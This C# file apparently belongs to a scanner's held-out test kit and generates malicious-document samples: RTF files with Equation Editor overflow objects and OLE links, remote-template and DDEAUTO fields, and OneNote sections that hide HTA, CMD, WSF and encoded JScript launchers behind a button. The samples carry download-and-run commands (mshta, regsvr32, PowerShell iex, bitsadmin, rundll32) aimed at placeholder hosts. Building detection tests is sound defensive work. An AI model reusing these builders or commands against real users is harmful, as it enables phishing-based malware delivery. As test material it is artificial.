using System.Text;
using static ScanHost.TestKit.HeldOut.WrittenForms;

namespace ScanHost.TestKit.HeldOut.Sixth;

/// <summary>A rich text with an equation or a linked object in the shape of the known exploits.</summary>
public sealed class RichTextWithEquation : SixthRound
{
    // A font record that is too long, [MTEF] 3, with a command where the code would stand.
    private static byte[] Equation(string command) =>
        [0x1C, 0, 0, 0, 2, 0, 0x9E, 0xC4, 0xA9, 0, 0, 0, 0, 0, 0, 0, 0xC8, 0xA7, 0x5C, 0, 0xC4, 0xEE, 0x5B, 0, 0, 0, 0, 0, 3, 1, 1, 3, 0x0A, 0x0A, 1, 8, 0x5A, 0x5A, .. Encoding.ASCII.GetBytes(command.PadRight(44, 'A')), 0x12, 0x0C, 0x43, 0, .. new byte[64]];

    private static byte[] Compound(string command) => new OleFileBuilder().Class("", "0002CE02-0000-0000-C000-000000000046").Stream("Equation Native", Equation(command)).Build();

    // An OLE link whose moniker is an address.
    private static byte[] Link(string address)
    {
        var text = Encoding.Unicode.GetBytes(address + "\0");
        byte[] stream = [1, 0, 0, 2, 9, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, .. BitConverter.GetBytes(text.Length + 20), 0xE0, 0xC9, 0xEA, 0x79, 0xF9, 0xBA, 0xCE, 0x11, 0x8C, 0x82, 0, 0xAA, 0, 0x4B, 0xA9, 0x0B, .. BitConverter.GetBytes(text.Length), .. text, .. new byte[24]];
        return new OleFileBuilder().Class("", "00000300-0000-0000-C000-000000000046").Stream("\u0001Ole", stream).Stream("\u0003LinkInfo", new byte[16]).Build();
    }

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("PO-2026-1187.doc", RtfBuilder.WithObject("Equation.3", Compound("mshta http://192.0.2.201/e.hta"), "\\objupdate\\objw4321\\objh1234"));

        yield return ("Anfrage.rtf", RtfBuilder.WithObject("OLE2Link", Link("http://198.51.100.201/vorlage.hta"), "\\objautlink\\objupdate\\rsltpict"));

        yield return ("swift copy.doc", Utf8(Fill("""
            {\rtf1\ansi\deff0{\fonttbl{\f0\fnil Calibri;}}
            \pard Please find attached swift copy for your reference.\par
            {\object\objemb\objupdate\objsetsize\objw200\objh200{\*\objclass Equation.3}
            {\*\objdata
            @@1
            }}}
            """, string.Join('\n', Convert.ToHexString(RtfBuilder.Embedded("Equation.3", Equation("cmd /c start http://203.0.113.201/s.exe"))).Chunk(78).Select(line => new string(line))))));

        // A short header, the class in other letters, digits between control words, groups, comments and blanks.
        var hex = Convert.ToHexString(RtfBuilder.Embedded("eQuatiON.3", Compound("regsvr32 /i:http://192.0.2.202/x scrobj"))).ToLowerInvariant();
        yield return ("RFQ 7781.doc", Utf8(Fill("""
            {\rt@@1{\*\pnseclvl9981{\objhtml7728}}{\object99871\objemb\objupdate77\objw1{\*\objclass @@2}{\*\objdata8877 {\*\ofxx }@@3}}}
            """, new string('%', 40), "Word.Document.8", string.Concat(hex.Chunk(9).Select((part, at) => new string(part) + (at % 4) switch { 0 => "{\\*\\zq" + at + "}", 1 => "\t\n ", 2 => "\\mk" + at + " ", _ => "" })))));
    }
}

/// <summary>A rich text that fetches its template, starts a field's program or has a packed script in it.</summary>
public sealed class RichTextThatFetches : SixthRound
{
    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Minutes.rtf", Utf8("""
            {\rtf1\ansi\ansicpg1252\deff0{\fonttbl{\f0\froman Times New Roman;}}{\*\template http://192.0.2.210/Minutes.dotm}
            \pard\f0\fs24 Minutes of the meeting of 12 November 2026. Loading...\par}
            """));

        yield return ("Frachtbrief.rtf", RtfBuilder.WithPackage("Frachtbrief.js", Dos("""
            var a = new ActiveXObject("WScript.Shell");
            a.Run("cmd /c bitsadmin /transfer f /priority high http://203.0.113.210/f.exe %temp%\\f.exe & %temp%\\f.exe", 0);
            """)));

        yield return ("Application.doc", Utf8("""
            {\rtf1\ansi Personal statement\par
            {\field{\*\fldinst {DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/c powershell -w hidden iex (iwr http://198.51.100.210/d -UseBasicParsing)"}}{\fldrslt !Unexpected End of Formula}}
            \par}
            """));

        // The template's address in Unicode escapes, and a linked picture on a share below it.
        yield return ("Decree.doc", Utf8(Fill("""
            {\rtf1\ansi\uc1{\*\template @@1}
            {\info{\title Decree No. 117}}\pard DECREE\par
            {\field{\*\fldinst {INCLUDEPICTURE "\\\\\\\\files.docs-share.test\\\\s\\\\seal.png" \\d}}{\fldrslt }}
            \par}
            """, string.Concat("http://templates.office-cdn.test/dec/117".Select(letter => $"\\u{(int)letter - 65536}?")))));
    }
}

/// <summary>A notebook section with a button drawn over a file that runs.</summary>
public sealed class NotebookWithButton : SixthRound
{
    private static readonly byte[] Button = InertFiles.Png(420, 90, "Comment\0Double click to view file");

    /// <inheritdoc/>
    public override IEnumerable<(string Name, byte[] Content)> Variants()
    {
        yield return ("Invoice_4471.one", OneNoteBuilder.Section(("button.png", Button), ("Open.hta", Dos("""
            <html><head><hta:application windowstate="minimize"></head><body><div id="c">curl http://192.0.2.221/o.gif -o C:\ProgramData\o.png &amp; rundll32 C:\ProgramData\o.png,Wind</div>
            <script language="javascript">var s=new ActiveXObject("WScript.Shell");s.Run("cmd /c "+document.getElementById("c").innerText,0);window.close();</script></body></html>
            """))));

        yield return ("Dokumente.one", OneNoteBuilder.Section(("hintergrund.png", Button), ("Ansehen.cmd", Dos(Fill("""
            @echo off
            powershell -NoP -W Hidden -EncodedCommand @@1
            exit
            """, Encoded("$u='http://203.0.113.221/d.dat';$p=\"$env:ProgramData\\d.jpg\";iwr $u -OutFile $p;rundll32 $p,Wind"))))));

        yield return ("Remittance.one", OneNoteBuilder.Section(("b.png", Button), ("Remittance_\u202Efdp.wsf", Dos("""
            <job id="1"><script language="VBScript">
            Set o = CreateObject("WScript.Shell")
            o.Run "powershell Invoke-WebRequest -Uri http://198.51.100.221/r.exe -OutFile $env:tmp\r.exe; Start-Process $env:tmp\r.exe", 0
            </script></job>
            """)), ("decoy.pdf", PdfBuilder.Document())));

        // The script is coded as the encoder does it, four times below one button, next to a harmless table.
        var coded = ScriptEncoder.Encode("var w = new ActiveXObject(\"WScript.Shell\");\r\nw.Run(\"mshta https://cdn-notes.test/n\", 0);\r\n");
        yield return ("Meeting notes.one", OneNoteBuilder.Section(("table.csv", Dos("item,price\nchair,40\n")), ("press.png", Button), ("attachment.jse", coded), ("attachment.jse", coded), ("attachment.jse", coded), ("attachment.jse", coded)));
    }
}
